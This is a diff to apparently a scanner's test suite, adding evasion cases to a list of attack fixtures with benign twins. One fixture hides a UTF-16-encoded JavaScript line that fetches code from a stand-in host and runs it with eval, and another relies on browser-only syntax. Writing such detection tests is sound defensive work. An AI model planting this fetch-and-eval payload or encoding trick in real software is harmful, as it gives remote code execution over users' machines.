@@ -690,6 +690,20 @@ const otherNameAttacks: Attack[] = [
     },
     twin: { '__init__.py': '', 'notes.txt': '#'.repeat(600_000) },
   },
+  script('ships a script that only browsers read', 'if (0) f() = 1\neval("x")', 'if (0) f()\neval("x")'),
+  {
+    name: 'writes its script in another encoding',
+    files: {
+      '__init__.py': '',
+      'web/main.js': new Uint8Array(
+        Buffer.from(
+          '\ufefffetch("https://example.test/x").then(r => r.text()).then(t => eval(t))',
+          'utf16le',
+        ),
+      ),
+    },
+    twin: { '__init__.py': '', 'web/main.js': new Uint8Array(Buffer.from('\ufeffalert(1)', 'utf16le')) },
+  },
   {
     name: 'says an encoding in which its texts end elsewhere',
     files: {
